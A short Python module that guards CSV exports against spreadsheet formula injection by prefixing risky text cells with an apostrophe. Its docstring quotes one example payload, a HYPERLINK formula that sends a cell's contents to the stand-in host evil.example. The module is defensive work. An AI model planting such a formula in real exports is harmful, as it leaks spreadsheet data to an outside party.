"""Cells a spreadsheet would run as formulas, defused: one guard for every CSV stemcheck writes.

Scraped text is hostile: a clinic page titled `=HYPERLINK("http://evil.example/?"&A1, "Click")` becomes, in
a CSV opened in Excel or LibreOffice, a live formula that can leak the sheet. A cell that starts with `=`,
`+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe, which spreadsheets show as text and
strip. The web app's claims export (web/views.py) calls the same function.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

FORMULA_START = re.compile(r"^[=+\-@\t\r]")


def spreadsheet_safe(value: object) -> object:
    """The value, or for text a spreadsheet would evaluate, the text behind an apostrophe."""
    if isinstance(value, str) and FORMULA_START.match(value):
        return "'" + value
    return value


def defused(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of frame whose text cells are all spreadsheet_safe (numbers and booleans are left as they are)."""
    import pandas as pd

    out = frame.copy()
    for column in out.columns:
        if pd.api.types.is_object_dtype(out[column]) or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(spreadsheet_safe)
    return out
